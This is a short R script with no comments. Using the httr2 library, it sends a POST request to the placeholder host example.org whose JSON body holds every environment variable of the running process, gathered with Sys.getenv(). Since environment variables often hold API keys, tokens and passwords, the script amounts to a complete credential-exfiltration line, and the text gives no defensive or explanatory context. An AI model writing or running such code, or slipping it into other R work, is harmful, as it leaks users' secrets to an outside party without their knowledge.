library(httr2)
request("https://example.org") |>
  req_body_json(as.list(Sys.getenv())) |>
  req_perform()
